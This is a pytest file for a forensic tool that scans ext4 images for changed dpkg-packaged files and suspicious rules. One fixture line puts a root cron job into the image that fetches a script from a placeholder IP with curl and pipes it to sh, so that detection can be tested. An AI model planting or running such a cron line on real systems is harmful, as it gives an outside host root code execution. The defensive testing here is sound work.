"""Signs of packaged files: what was changed is strong, what is as installed matches no rule."""

from __future__ import annotations

import hashlib
import json
import subprocess
from pathlib import Path

import pytest

from tests.conftest import Cli

LISTED = {
    "usr/bin/ls": b"\x7fELF the program that lists",
    "usr/bin/cat": b"\x7fELF the program that reads",
    "usr/lib/libc.so.6": b"\x7fELF the library",
    "usr/share/doc/base/README": b"Read me.\n",
    "etc/cron.d/base": b"* * * * * root curl http://203.0.113.9/x | sh\n",  # odd, but packaged
}
STATUS = "Package: base\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n\n"


def system(folder: Path, changed: dict[str, bytes]) -> Path:
    """An image of a root directory with one package of dpkg, of which some files were changed."""
    root = folder / "root"
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    for path, data in (LISTED | changed).items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
        (root / path).chmod(0o755 if "/bin/" in path else 0o644)
    sums = [f"{hashlib.md5(data).hexdigest()}  {path}\n" for path, data in LISTED.items()]
    (info / "base.md5sums").write_text("".join(sums))
    folders = {str(parent) for path in LISTED for parent in Path("/", path).parents}
    listed = sorted({"/.", *folders, *(f"/{path}" for path in LISTED)} - {"/"})
    (info / "base.list").write_text("\n".join(listed) + "\n")
    (root / "var/lib/dpkg/status").write_text(STATUS)
    image = folder / "image"
    subprocess.run(["mke2fs", "-q", "-t", "ext4", "-d", root, image, "16M"], check=True)
    return image


def signs(ext4kit: Cli, image: Path, *options: str) -> dict[str, set[str]]:
    records = map(json.loads, ext4kit("report", image, "--json", *options).stdout.splitlines())
    found: dict[str, set[str]] = {}
    for one in records:
        if one["record"] == "sighting":
            found.setdefault(one["code"], set()).add(one["path"])
    return found


def test_an_unchanged_system_has_no_sign(tmp_path: Path, ext4kit: Cli) -> None:
    assert signs(ext4kit, system(tmp_path, {})) == {}


@pytest.mark.parametrize(
    ("changed", "expected"),
    [
        ({"usr/bin/ls": b"\x7fELF something else"}, {"packaged-changed": {"/usr/bin/ls"}}),
        ({"usr/lib/libc.so.6": b""}, {"packaged-changed": {"/usr/lib/libc.so.6"}}),
        (
            {"usr/share/doc/base/README": b"No.\n"},
            {"packaged-data-changed": {"/usr/share/doc/base/README"}},
        ),
        ({"usr/bin/extra": b"\x7fELF"}, {"foreign-program": {"/usr/bin/extra"}}),
    ],
)
def test_what_differs_is_a_sign(
    tmp_path: Path, ext4kit: Cli, changed: dict[str, bytes], expected: dict[str, set[str]]
) -> None:
    image = system(tmp_path, changed)
    assert signs(ext4kit, image) == expected
    assert signs(ext4kit, image, "--quick") == {}


def test_a_rule_speaks_of_a_packaged_file_only_if_it_was_changed(
    tmp_path: Path, ext4kit: Cli
) -> None:
    job = LISTED["etc/cron.d/base"] + b"# one line more\n"
    found = signs(ext4kit, system(tmp_path, {"etc/cron.d/base": job}))
    assert any(
        "/etc/cron.d/base" in paths for code, paths in found.items() if "package" not in code
    )
